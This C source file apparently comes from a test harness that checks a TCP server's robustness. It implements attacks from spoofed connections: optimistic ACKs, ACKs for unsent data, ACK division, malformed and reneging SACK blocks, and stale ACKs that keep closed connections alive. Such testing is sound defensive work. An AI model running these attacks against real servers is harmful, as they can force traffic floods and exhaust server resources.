/* SPDX-License-Identifier: MIT */
/* Acknowledgements that lie, on connections of the attacker's own. */
#include "attacker.h"

enum {
	SPEAKERS = 32,
	HONEST_MOST = SPEAKERS / 2, /* connections of clients, at any time */
};

static const struct manner mute = { .win = 65535, .ts = true };

/* What a puppet acknowledges, relative to what it has got. */
static void ack_at(struct attack *a, struct puppet *p, int32_t off)
{
	uint32_t true_ack = p->rcv_nxt;

	p->rcv_nxt += (uint32_t)off;
	puppet_send(a, p, 0, NULL, 0, TCP_ACK);
	p->rcv_nxt = true_ack;
}

static bool begin(struct attack *a)
{
	if (!prepare(a, 60000))
		return false;
	return puppets_open(a, SPEAKERS, &mute) ||
	       success(a, "no connection is taken");
}

/* ... and says that it can SACK. */
static bool begin_sack(struct attack *a)
{
	static const uint8_t sack_ok[] = { TCP_OPT_NOP, TCP_OPT_NOP,
					   TCP_OPT_SACK_OK, 2 };
	const struct manner how = {
		.win = 65535, .ts = true, .opt = sack_ok, .nopt = 4
	};

	if (!prepare(a, 60000))
		return false;
	return puppets_open(a, SPEAKERS, &how) ||
	       success(a, "no connection is taken");
}

static void ask(struct attack *a)
{
	char buf[MSS];
	uint16_t n = request(a, buf);

	for (uint32_t i = 0; i < a->npuppets; i++)
		puppet_send(a, &a->puppets[i], 0, buf, n, TCP_ACK);
}

/* Acknowledges far ahead of what has come, so that the server sends without
 * end: what it has sent, and what it has not. */
static bool optimistic(struct attack *a)
{
	if (!begin(a))
		return false;
	do {
		ask(a);
		for (uint32_t i = 0; i < a->npuppets; i++)
			for (int32_t off = MSS; off < 40 * MSS; off += MSS)
				ack_at(a, &a->puppets[i], off);
	} while (more(a));
	return !*a->why;
}

static bool unsent(struct attack *a)
{
	if (!begin(a))
		return false;
	do {
		ask(a);
		for (uint32_t i = 0; i < a->npuppets; i++)
			for (int32_t k = 1; k < 32; k++)
				ack_at(a, &a->puppets[i], k << 26);
	} while (more(a));
	return !*a->why;
}

static bool duplicates(struct attack *a)
{
	if (!begin(a))
		return false;
	do {
		ask(a);
		for (uint32_t i = 0; i < a->npuppets; i++)
			for (uint32_t k = 0; k < 200; k++)
				ack_at(a, &a->puppets[i],
				       -(int32_t)a->puppets[i].got);
	} while (more(a));
	return !*a->why;
}

/* A byte at a time. */
static bool division(struct attack *a)
{
	if (!begin(a))
		return false;
	do {
		ask(a);
		sync_up(a);
		for (uint32_t i = 0; i < a->npuppets; i++) {
			struct puppet *p = &a->puppets[i];
			int32_t n = min((int32_t)p->got, 400);

			for (int32_t k = n; k >= 0; k--)
				ack_at(a, p, -k);
		}
	} while (more(a));
	return !*a->why;
}

/* From where to where, behind the first byte that it has got. */
struct block {
	int32_t start, end;
};

/* Acknowledges up to @off behind that byte, with three blocks. */
static void sack_at(struct attack *a, const struct puppet *p, int32_t off,
		    const struct block b[3])
{
	uint32_t first = p->rcv_nxt - (uint32_t)p->got;
	struct be32 opt[7] = { be32(0x0101051a) };

	for (int i = 0; i < 3; i++) {
		opt[1 + 2 * i] = be32(first + (uint32_t)b[i].start);
		opt[2 + 2 * i] = be32(first + (uint32_t)b[i].end);
	}
	send_seg(a, &(struct seg){ .src = p->ip,
				   .sport = p->port,
				   .seq = p->snd_nxt,
				   .ack = first + (uint32_t)off,
				   .flags = TCP_ACK,
				   .win = p->win,
				   .ts = true,
				   .tsval = (uint32_t)(now_ns() >> 20),
				   .tsecr = p->tsecr,
				   .opt = (const uint8_t *)opt,
				   .nopt = sizeof(opt) });
}

/* Every second byte has come, or every second segment; from both ends; and then
 * what cannot be: inverted, empty, of what was never sent or long ago. */
static bool sack_scatter(struct attack *a)
{
	uint32_t k = 0;

	if (!begin_sack(a))
		return false;
	do {
		if (!(k++ % 8))
			ask(a);
		for (uint32_t i = 0; i < a->npuppets; i++) {
			for (int32_t n = 1; n < 60; n++) {
				const int32_t at = n * (k % 2 ? 2 : 2 * MSS);
				const int32_t len = k % 2 ? 1 : MSS;
				const struct block b[3] = {
					{ at, at + len },
					{ 60 * MSS - at, 60 * MSS - at + len },
					{ at + (n % 5 << 29), at - n % 3 },
				};

				sack_at(a, &a->puppets[i], 0, b);
			}
		}
	} while (more(a));
	if (counter(a, "tcp_sack_bad") < GROUP)
		success(a, "no block was looked at");
	return !*a->why;
}

/* All but the next segment has come; then that has, and nothing else (RFC 2018
 * section 8), and so on; and all that was acknowledged has come twice (RFC
 * 2883), each time. */
static bool sack_renege(struct attack *a)
{
	if (!begin_sack(a))
		return false;
	do {
		ask(a);
		sync_up(a);
		for (uint32_t i = 0; i < a->npuppets; i++) {
			const struct puppet *p = &a->puppets[i];
			int32_t got = (int32_t)p->got;
			const struct block none[3] = { { got, got },
						       { got, got },
						       { got, got } };
			const struct block twice[3] = { { 0, got - MSS },
							{ MSS, 2 * MSS },
							{ 0, 1 } };

			if (got < 4 * MSS)
				continue;
			for (int32_t at = 0; at + 2 * MSS < got; at += MSS) {
				const struct block rest = { at + MSS, got };

				sack_at(a, p, at,
					(struct block[3]){ rest, rest, rest });
				sack_at(a, p, at + MSS, none);
			}
			for (int k = 0; k < 20; k++)
				sack_at(a, p, got - MSS, twice);
		}
	} while (more(a));
	if (counter(a, "tcp_dsacks") < GROUP)
		success(a, "no block was looked at");
	return !*a->why;
}

/* Connections that the server has closed, with data on the way, must end
 * however often they hear what they knew (RFC 9293 section 3.8.3: R2). */
static bool orphans(struct attack *a, bool shut)
{
	int64_t conns;
	uint64_t until = now_ns() + LIMIT_S * 1000000000ull;

	if (!begin(a))
		return false;
	ask(a);
	sync_up(a);
	for (uint32_t i = 0; i < a->npuppets; i++) {
		struct puppet *p = &a->puppets[i];

		p->win = shut ? 0 : p->win;
		puppet_send(a, p, 0, NULL, 0, TCP_ACK | TCP_FIN);
	}
	do {
		for (uint32_t i = 0; i < a->npuppets; i++)
			ack_at(a, &a->puppets[i], -(int32_t)a->puppets[i].got);
		sync_up(a);
		hear(a, 20);
		conns = counter(a, "tcp_conns");
	} while (conns > HONEST_MOST && now_ns() < until);
	if (conns < 0)
		return success(a, "the server is gone");
	if (conns > HONEST_MOST)
		return success(a, "%lld connections live on, closed %d s ago",
			       (long long)conns, LIMIT_S);
	return true;
}

static bool old_acks(struct attack *a)
{
	return orphans(a, false);
}

static bool old_acks_shut(struct attack *a)
{
	return orphans(a, true);
}

const struct attack_kind attacks_acks[] = {
	{ "ack_optimistic", optimistic, ON_BOTH | ON_ECHO6 },
	{ "ack_unsent", unsent, ON_ECHO | ON_ECHO6 },
	{ "ack_duplicates", duplicates, ON_BOTH | ON_ECHO6 },
	{ "ack_division", division, ON_ECHO | ON_ECHO6 },
	{ "sack_scatter", sack_scatter, ON_BOTH | ON_ECHO6 },
	{ "sack_renege", sack_renege, ON_BOTH | ON_ECHO6 },
	{ "orphans_old_acks", old_acks, ON_ECHO | ON_ECHO6 },
	{ "orphans_window_zero", old_acks_shut, ON_ECHO | ON_ECHO6 },
	{ 0 },
};
